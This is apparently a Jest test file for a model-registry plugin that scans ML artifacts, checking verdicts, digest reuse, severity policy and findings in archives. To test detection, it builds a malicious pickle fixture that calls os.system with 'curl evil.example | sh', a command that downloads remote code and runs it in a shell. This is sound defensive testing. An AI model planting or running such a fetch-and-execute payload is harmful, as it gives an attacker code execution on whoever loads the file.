import type { TestDatabaseId } from '@backstage/backend-test-utils';
import type { Transactions } from '@modelhub/backstage-plugin-models-node';
import { scanArtifact } from '@modelhub/scanner';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { databaseIds, migratedDatabase } from '../../__testUtils__';
import { subject } from '../__testUtils__';
import { calling, safetensors, sha256, zip } from './__testUtils__/artifacts';
import { startArtifacts } from './__testUtils__/startArtifacts';

jest.setTimeout(120_000);

const payload = zip({
  'model/data.pkl': calling('os', 'system', 'curl evil.example | sh'),
  'model/version': Buffer.from('3\n'),
});
const legacy = calling('acme.training', 'LabelEncoder', 'tickets');

describe.each(databaseIds)(
  'artifact security on %s',
  (databaseId: TestDatabaseId) => {
    let transactions: Transactions;
    let world: Awaited<ReturnType<typeof startArtifacts>>;

    beforeAll(async () => {
      ({ transactions } = await migratedDatabase(databaseId));
      world = await startArtifacts(transactions);
      writeFileSync(join(world.folder, 'good.safetensors'), safetensors());
      writeFileSync(join(world.folder, 'legacy.pkl'), legacy);
    });
    afterAll(() => world.stop());
    beforeEach(async () => {
      await transactions.knex('gate_artifact_scans').delete();
    });

    it('reads bytes that are known by digest once, for every tier', async () => {
      const { evaluate, scanned, told, clock } = world.open();
      const artifact = {
        uri: 'file:///good.safetensors',
        digest: sha256(safetensors()),
      };
      const first = await evaluate(artifact);
      expect(first).toMatchObject({
        verdict: 'pass',
        summary: 'Nothing was found in 1 file.',
        findings: [],
        evidence: {
          kind: 'artifact-scan',
          uri: artifact.uri,
          digest: artifact.digest,
          declaredDigest: artifact.digest,
          verdict: 'clean',
          files: 1,
          bytes: safetensors().length,
          formats: [{ format: 'safetensors', files: 1 }],
          notRead: [],
          reused: false,
          scannedAt: '2026-11-02T09:00:00.000Z',
        },
      });
      expect(told[0]).toBe('Opening the artifact');

      clock.advance(3600);
      const second = await evaluate(
        artifact,
        { failOn: 'low' },
        { tier: 'regulated' },
      );
      expect(scanned).toHaveLength(1);
      expect(second).toMatchObject({
        verdict: 'pass',
        evidence: {
          reused: true,
          scannedAt: '2026-11-02T09:00:00.000Z',
          failOn: 'low',
        },
      });
      expect(second.files).toEqual(first.files);
      expect(first.files?.map(({ name }) => name)).toEqual([
        'bom.cdx.json',
        'scan.json',
        'scan.sarif',
      ]);
      const [bom, report, sarif] = (first.files ?? []).map(({ text }) =>
        JSON.parse(text),
      );
      expect(bom).toMatchObject({
        bomFormat: 'CycloneDX',
        metadata: { component: { type: 'machine-learning-model', name: 'm' } },
        components: [
          {
            name: 'good.safetensors',
            hashes: [{ alg: 'SHA-256', content: artifact.digest.slice(7) }],
          },
        ],
      });
      expect(report).toMatchObject({
        uri: artifact.uri,
        digest: artifact.digest,
        verdict: 'clean',
      });
      expect(sarif).toMatchObject({ version: '2.1.0' });
      // Where the portal keeps its files is nobody's business.
      expect(JSON.stringify(first)).not.toContain(world.folder);

      // The name tells loaders what the bytes are, so it is another question.
      writeFileSync(join(world.folder, 'renamed.bin'), safetensors());
      await evaluate({ ...artifact, uri: 'file:///renamed.bin' });
      expect(scanned).toHaveLength(2);
    });

    it('finds what hides in an archive, and where', async () => {
      world.served.set('/model.bin', payload);
      const { evaluate } = world.open();
      const outcome = await evaluate({
        uri: `http://${world.host}/model.bin`,
        digest: sha256(payload),
      });
      expect(outcome.verdict).toBe('fail');
      expect(outcome.summary).toContain('(model.bin!model/data.pkl@');
      expect(outcome.evidence).toMatchObject({
        verdict: 'malicious',
        counts: { critical: expect.any(Number) },
      });
      expect(outcome.evidence?.findings[0]).toMatchObject({
        rule: 'pickle-dangerous-import',
        severity: 'critical',
        file: 'model.bin',
        location: expect.stringMatching(/^model\/data\.pkl@\d+$/),
        message: expect.stringContaining('os.system'),
        explanation: expect.stringContaining('Do not load it'),
        blocks: true,
      });
      expect(outcome.findings[0]).toMatchObject({ severity: 'critical' });
    });

    it('stops from the severity on that the policy names', async () => {
      const { evaluate, scanned } = world.open();
      const artifact = { uri: 'file:///legacy.pkl', digest: sha256(legacy) };
      const lax = await evaluate(artifact, { failOn: 'critical' });
      expect(lax).toMatchObject({ verdict: 'warn' });
      expect(lax.summary).toMatch(/\(legacy\.pkl@\d+\): imports acme/);
      expect(lax.evidence?.findings[0]).toMatchObject({
        rule: 'pickle-unknown-import',
        severity: 'high',
        blocks: false,
      });
      expect(await evaluate(artifact, { failOn: 'high' })).toMatchObject({
        verdict: 'fail',
      });
      expect(await evaluate(artifact)).toMatchObject({ verdict: 'fail' });
      expect(scanned).toHaveLength(1);
    });

    it('fails what cannot be judged to its end, whatever the policy stops', async () => {
      const cut = payload.subarray(0, payload.length - 30);
      world.served.set('/cut.bin', cut);
      const outcome = await world
        .open()
        .evaluate(
          { uri: `http://${world.host}/cut.bin`, digest: sha256(cut) },
          { failOn: 'critical' },
        );
      expect(outcome.verdict).toBe('fail');
      expect(outcome.evidence?.notRead).not.toEqual([]);
    });

    it('fails other bytes than the catalog names, and keeps nothing for those', async () => {
      const { evaluate, scanned } = world.open();
      const artifact = {
        uri: 'file:///good.safetensors',
        digest: sha256(legacy),
      };
      for (let times = 1; times <= 2; times++) {
        const outcome = await evaluate(artifact, { failOn: 'critical' });
        expect(outcome.verdict).toBe('fail');
        expect(outcome.summary).toContain('not what the catalog says');
        expect(outcome.evidence).toMatchObject({
          digest: sha256(safetensors()),
          declaredDigest: artifact.digest,
        });
        expect(scanned).toHaveLength(times);
      }
    });

    it('pins what no digest pins, and reads it again each time', async () => {
      const { gate, evaluate, scanned } = world.open();
      const artifact = { uri: 'file:///good.safetensors' };
      expect((await evaluate(artifact)).evidence).toMatchObject({
        digest: sha256(safetensors()),
      });
      await evaluate(artifact);
      expect(scanned).toHaveLength(2);
      expect(gate.maxAgeSeconds).toBe(0);
    });

    it('asks for files where the policy does', async () => {
      const { gate, evaluate } = world.open();
      const about = subject({ version: { name: '1' } });
      expect(gate.appliesTo(about, {})).toBe(false);
      expect(gate.notApplicable).toContain('the provider runs the model');
      expect(gate.appliesTo(about, { requireArtifact: true })).toBe(true);
      expect(
        await evaluate(undefined, { requireArtifact: true }),
      ).toMatchObject({
        verdict: 'fail',
        findings: [{ id: 'artifact-missing' }],
      });
    });

    it('answers as a scan on a laptop does', async () => {
      world.served.set('/model.bin', payload);
      writeFileSync(join(world.folder, 'model.bin'), payload);
      const remote = await world
        .open()
        .evaluate({ uri: `http://${world.host}/model.bin` });
      const local = await scanArtifact(join(world.folder, 'model.bin'), {
        access: { schemes: ['path'] },
      });
      const [{ findings }] = local.files;
      expect(findings.length).toBeGreaterThan(0);
      expect(
        remote.evidence?.findings.map(
          ({ rule, severity, location, message }) => ({
            rule,
            severity,
            location,
            message,
          }),
        ),
      ).toEqual(findings);
      expect(remote.evidence).toMatchObject({
        verdict: local.verdict,
        digest: local.digest,
      });
    });
  },
);
